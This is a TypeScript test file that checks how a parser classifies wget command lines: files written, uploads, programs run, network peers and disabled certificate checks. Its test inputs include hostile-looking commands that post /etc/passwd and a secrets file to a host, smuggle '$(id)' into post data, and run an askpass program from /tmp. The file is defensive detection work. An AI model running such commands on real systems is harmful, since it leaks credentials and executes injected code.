import { describe, expect, it } from 'vitest';
import { parse, peersOf } from './support.ts';

const cwd = { cwd: '/dev/shm' };

describe('wget: what is written', () => {
  it.each([
    ['http://h/a', ['/dev/shm/a']],
    ['http://h/', ['/dev/shm/index.html']],
    ['-qO/tmp/x http://h/', ['/tmp/x']],
    ['-O- http://h/', []],
    ['-O - http://h/', []],
    ['-qO- http://h/', []],
    ['-O /dev/null http://h/', []],
    ['--output-document=/tmp/x http://h/', ['/tmp/x']],
    ['-nv -nc http://h/a', ['/dev/shm/a']],
    ['-nH -nd -np -r http://h/a/', ['/dev/shm/']],
    ['http://h/a -P /tmp', ['/tmp/a']],
    ['-q http://127.0.0.1/ http://h/p -P /tmp', ['/tmp/index.html', '/tmp/p']],
    ['-e output_document=/tmp/x http://h/a', ['/tmp/x']],
    ['-e dir_prefix=/tmp http://h/a', ['/tmp/a']],
    ['--spider http://h/a', []],
    ['--delete-after http://h/a', []],
    ['-i - -P /tmp', ['/tmp/']],
  ])('%s', (line, expected) => {
    expect(parse('wget', line, cwd).downloads.map((download) => download.path)).toEqual(expected);
  });

  it('reads busybox’s smaller set of options', () => {
    const invocation = parse('wget', '-q -T 5 -O /tmp/x http://h/', { multi_call: 'busybox' });
    expect(invocation).toMatchObject({ dialect: 'busybox', downloads: [{ path: '/tmp/x' }] });
  });

  it('treats busybox’s -S as a flag', () => {
    expect(peersOf(parse('wget', '-S http://203.0.113.9/', { multi_call: 'busybox' }))).toEqual([
      'connect public_ip 203.0.113.9 80',
    ]);
  });
});

describe('wget: what is sent and run', () => {
  it.each([
    ['--post-file=/var/run/secrets/t http://h/', '/var/run/secrets/t'],
    ['--post-file /etc/passwd http://h/', '/etc/passwd'],
    ['--method=PUT --body-file=x http://h/', '/dev/shm/x'],
    ['-e post_file=/etc/passwd http://h/', '/etc/passwd'],
  ])('%s sends a file', (line, path) => {
    expect(parse('wget', line, cwd).uploads).toMatchObject([{ what: 'file', path }]);
  });
  it('literal data is no upload, a command’s output in it is', () => {
    expect(parse('wget', '--post-data=a=b http://h/').uploads).toEqual([]);
    expect(parse('wget', "'--post-data=$(id)' http://h/").uploads).toMatchObject([{ what: 'inline' }]);
  });
  it('runs its askpass program, however decoy-like the host is', () => {
    const invocation = parse('wget', '--use-askpass=/tmp/x 0');
    expect(invocation.attached).toEqual([{ option: '--use-askpass', program: '/tmp/x', on_socket: false }]);
    expect(peersOf(invocation)).toEqual(['connect loopback 0.0.0.0 80']);
    expect(parse('wget', '-e use_askpass=/tmp/x 0').attached).toHaveLength(1);
  });
});

describe('wget: where to', () => {
  it.each([
    [
      '-e http_proxy=203.0.113.9:3128 http://localhost/',
      ['connect loopback localhost 80', 'proxy public_ip 203.0.113.9 3128'],
    ],
    ['h.example:8080/x', ['connect public_name h.example 8080']],
    ['h.example:dir/x', ['connect public_name h.example 21']],
    ['http://127.0.0.1.x.example/', ['connect public_name 127.0.0.1.x.example 80']],
  ])('%s', (line, expected) => {
    expect(peersOf(parse('wget', line))).toEqual(expected);
  });
  it('says that a proxy setting redirects', () => {
    expect(parse('wget', '-e use_proxy=yes -e http_proxy=h:1 http://localhost/').redirects).toHaveLength(1);
  });
  it('cannot see targets in a list', () => {
    expect(parse('wget', '-i -')).toMatchObject({ hidden_targets: ['-i'] });
    expect(parse('wget', '--input-file=l').inert).toBeUndefined();
  });
  it('notes switched off certificate checks', () => {
    expect(parse('wget', '--no-check-certificate https://h/').unchecked).toEqual(['--no-check-certificate']);
    expect(parse('wget', '-e check_certificate=off https://h/').unchecked).toHaveLength(1);
  });
});

describe('wget: nothing happens', () => {
  it.each([
    ['--help', 'help'],
    ['-V', 'version'],
    ['', 'no_operand'],
  ])('%s is %s', (line, inert) => {
    expect(parse('wget', line).inert).toBe(inert);
  });
});
